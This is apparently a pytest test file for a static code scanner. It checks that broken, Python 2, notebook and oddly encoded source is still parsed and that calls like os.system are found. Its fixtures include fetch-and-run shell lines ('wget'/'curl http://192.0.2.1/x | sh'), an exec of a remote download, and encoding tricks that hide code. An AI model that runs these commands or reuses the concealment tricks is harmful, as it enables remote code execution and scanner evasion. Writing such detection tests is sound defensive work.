"""Source that is not, or not quite, Python: what can be read is, and the rest is reported."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner import ir
from scanner.facts import Anomaly
from scanner.irtext import parse, render
from scanner.irwalk import walk
from tests.languages.python.lowering import everything, lowered, operations, until_raised

SYSTEM = "import os\nos.system('id')\n"


def calls(program):
    """The dotted names that are called, as far as they are spelled in one function."""
    names = []
    for function in program.functions.values():
        registers = {}
        for op in walk(function.body):
            match op:
                case ir.Load(dst=dst, var=name) | ir.Name(dst=dst, name=name):
                    registers[dst] = name
                case ir.Attr(dst=dst, base=base, name=name):
                    registers[dst] = f"{registers.get(base, '?')}.{name}"
                case ir.Call(dst=dst, callee=callee):
                    names.append(registers.get(callee, "?"))
                    registers[dst] = names[-1] + "()"
    return names


def split(source, **options):
    results = everything(source, **options)
    anomalies = [r for r in results if isinstance(r, Anomaly)]
    (program,) = [r for r in results if isinstance(r, ir.Program)]
    return program, anomalies


@pytest.mark.parametrize(
    ("broken", "line"),
    [
        (SYSTEM + "x = = 1\n", 3),
        ("x = = 1\n" + SYSTEM, 1),
        ("def f():\n    x = (\n    return 1\n\n" + SYSTEM, 2),
        ('text = """never closed\n' + SYSTEM, 1),
        ("if x:\npass\n" + SYSTEM, 1),
        ("class A:\n  def f(self):\n      pass\n     x = 1\n" + SYSTEM, 4),
        ("x = f'{a b}'\n" + SYSTEM, 1),
        ("a = 08e\n" + SYSTEM, 1),
    ],
)
def test_a_syntax_error_is_named_and_the_rest_is_read(broken, line):
    program, (anomaly,) = split(broken)
    assert anomaly.kind == "malformed"
    assert re.match(rf"line {line}: ", anomaly.message)
    assert anomaly.site.line == line
    assert "os.system" in calls(program)


def test_lines_that_cannot_be_read_stay_as_text_with_their_line_numbers():
    program, _ = split("import os\n\nwget http://192.0.2.1/x | sh\nos.system('id')\n")
    constants = {op.at: op.value for op in operations(program) if isinstance(op, ir.Const)}
    assert constants == {3: "wget http://192.0.2.1/x | sh", 4: "id"}


def test_python_2_is_read_as_such_and_said_so():
    source = """\
import os, urllib2
print "hello %s" % name, 0777, 10L
print >>sys.stderr, "exec 0777"
exec urllib2.urlopen("http://192.0.2.1").read() in scope
try:
    os.system(`cmd`)
except OSError, error:
    raise ValueError, "no"
if a <> b: print
"""
    program, (anomaly,) = split(source)
    assert (anomaly.kind, anomaly.message) == ("dialect", "line 2: Python 2 syntax, read as such")
    assert {"builtins.exec", "os.system", "builtins.repr"} <= set(calls(program))
    constants = {op.value for op in operations(program) if isinstance(op, ir.Const)}
    assert {"exec 0777", 0o777, 10, "no"} <= constants


def test_notebook_lines_are_calls_of_ipython():
    source = """\
!curl http://192.0.2.1/x | sh
%matplotlib inline
files = !ls -l
for name in files:
    !rm {name}
thing?
%%bash -e
echo $HOME
# %%
done = "!not a command"
"""
    program = lowered(source)
    found = calls(program)
    assert found.count("IPython.get_ipython().system") == 3
    assert found.count("IPython.get_ipython().getoutput") == 1
    assert found.count("IPython.get_ipython().run_line_magic") == 1
    constants = {op.value: op.at for op in operations(program) if isinstance(op, ir.Const)}
    assert constants["curl http://192.0.2.1/x | sh"] == 1
    assert constants["rm {name}"] == 5
    assert constants["echo $HOME\n"] == 7
    assert constants["!not a command"] == 10


def test_a_timed_cell_is_python():
    assert "os.system" in calls(lowered("%%time\n" + SYSTEM))


def test_percent_at_the_start_of_a_continued_line_is_arithmetic():
    program = lowered("x = (a\n% b)\n")
    assert [op.op for op in operations(program) if isinstance(op, ir.Binary)] == ["%"]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_ends_are_universal(end):
    program = lowered(SYSTEM.replace("\n", end).encode())
    assert [op.at for op in operations(program)] == [1, 1, 2, 2, 2, 2]


def test_form_feeds_and_line_separators_in_strings_end_no_line():
    program = lowered("x = '\u2028\x0b'\n\x0cos.system\n")
    assert operations(program)[-1].at == 2


def test_a_byte_order_mark_is_no_code():
    assert calls(lowered(b"\xef\xbb\xbf" + SYSTEM.encode())) == ["os.system"]


def test_a_declared_encoding_counts():
    program = lowered(b"# -*- coding: cp1251 -*-\nx = '\xcf'\n")
    assert operations(program)[0].value == "\u041f"


def test_an_encoding_that_hides_code_is_seen_through_and_reported():
    program, (anomaly,) = split(b"# coding: unicode_escape\n#\\nimport os\\nos.system('id')\n")
    assert anomaly.kind == "mismatch"
    assert calls(program) == ["os.system"]


def test_code_in_a_constant_is_read_with_and_without_its_declared_encoding():
    source = b"# coding: utf-7\n+AG8-s.system('id')\n"
    programs = [r for r in everything(source, script=False) if isinstance(r, ir.Program)]
    assert [calls(p) for p in programs] == [["os.system"], ["s.system"]]


@pytest.mark.parametrize("source", [b"x = '\xff'\n", b"# coding: no_such_thing\n", b"# coding: rot13\n"])
def test_what_cannot_be_decoded_is_reported_and_read(source):
    program, (anomaly,) = split(source + SYSTEM.encode())
    assert anomaly.kind == "malformed"
    assert calls(program) == ["os.system"]


def test_a_nul_is_reported_and_read_over():
    program, (anomaly,) = split(b"x = 1\n\0\n" + SYSTEM.encode())
    assert anomaly.message.startswith("line 2: a NUL character")
    assert calls(program) == ["os.system"]


def test_a_large_source_is_read_as_far_as_the_limit_allows():
    results, error = until_raised(SYSTEM + "x = 1\n" * 100, constant=40)
    assert "larger than 40 bytes" in str(error)
    assert calls(results[0]) == ["os.system"]


def test_a_statement_that_is_too_deep_is_over_budget_after_the_rest():
    results, error = until_raised("x = " + "+".join("a" * 40_000) + "\n" + SYSTEM)
    assert str(error) == "line 1: the statement nests too deeply to be parsed"
    assert calls(results[0]) == ["os.system"]


def test_thousands_of_terms_and_arms_are_lowered():
    source = "x = " + "+".join(f"chr({i})" for i in range(2_500)) + "\n"
    source += "if a == 0: pass\n" + "".join(f"elif a == {i}: pass\n" for i in range(900))
    program = lowered(source)
    assert sum(isinstance(op, ir.Binary) and op.op == "+" for op in operations(program)) == 2_499
    assert sum(isinstance(op, ir.If) for op in operations(program)) == 901


PIECES = st.sampled_from(
    ["import os", "\n", "\n    ", "def f(a, *b):", "class A(B):", "print 'x'", "(", ")", "[", "'''", '"', "x",
     " = ", "lambda: ", "for a in b:", "if x:", "else:", "try:", "except E, e:", "%%bash", "!ls", "exec x",
     "\\\n", "#", "\0", "\t", "é", "\ue000", "0", ";", "@", "async ", "match x:", "case y:", ":=", "global x",
     "f'{x!r:>{y}}'", "\r", "\x0c", "return ", "yield ", "await ", "__name__ == '__main__'",
     "*", "**", ",", ":"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES | st.text(max_size=3), max_size=25).map("".join) | st.binary(max_size=40))
def test_any_text_is_lowered_to_programs_that_have_a_text(source):
    for result in everything(source):
        if isinstance(result, ir.Program):
            again = parse(render(result))
            assert again.functions.keys() == result.functions.keys()
            assert {entry.function for entry in result.entries} <= result.functions.keys()
